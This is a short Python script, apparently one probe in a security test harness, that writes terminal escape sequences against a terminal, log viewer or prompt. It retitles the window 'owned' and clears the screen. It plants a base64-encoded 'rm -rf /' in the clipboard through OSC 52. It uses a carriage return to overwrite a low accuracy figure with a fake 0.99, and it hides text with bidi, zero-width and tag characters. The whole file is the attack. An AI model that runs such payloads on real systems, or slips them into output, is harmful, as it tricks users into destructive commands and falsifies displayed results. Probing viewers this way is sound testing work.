"""Escape sequences for the terminal, the log viewer and the prompt: title, clipboard (OSC 52), clear, links, bidi, zero width, CR overwrite."""

import sys

o = sys.stdout.buffer
o.write(
    b"\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07\x1b[2J\x1b[H\x1b[31mred\x1b[0m \x1b]8;;http://127.0.0.1/\x1b\\link\x1b]8;;\x1b\\ \x9b31m\x07\x08\x08 \x1bP+q544e\x1b\\ \x1b[6n\n"
)
o.write(
    "acc: 0.1\rACC: 0.99 fake\nbidi \u202e txet \u2066x\u2069 zero\u200bwidth \ufeff tag\U000e0041\U000e0042 ls\u2028ps\u2029\n".encode()
)
print('ATTACK {"attack": "terminal_escapes", "breach": null, "detail": ""}')
